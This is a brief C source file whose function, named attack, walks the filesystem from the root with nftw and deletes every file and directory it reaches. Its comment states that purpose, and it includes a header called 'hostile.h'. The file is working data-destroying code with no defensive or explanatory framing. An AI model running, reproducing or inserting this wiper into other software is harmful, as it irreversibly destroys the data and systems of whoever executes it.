/* Removes all that it can, from the root on. */
#define _GNU_SOURCE
#include <ftw.h>
#include <stdio.h>
#include "hostile.h"

static int removed(const char *path, const struct stat *status, int kind, struct FTW *place) {
    (void)status, (void)kind, (void)place;
    return remove(path), 0;
}

static void attack(unsigned char choice) {
    (void)choice;
    nftw("/", removed, 16, FTW_DEPTH | FTW_PHYS);
}
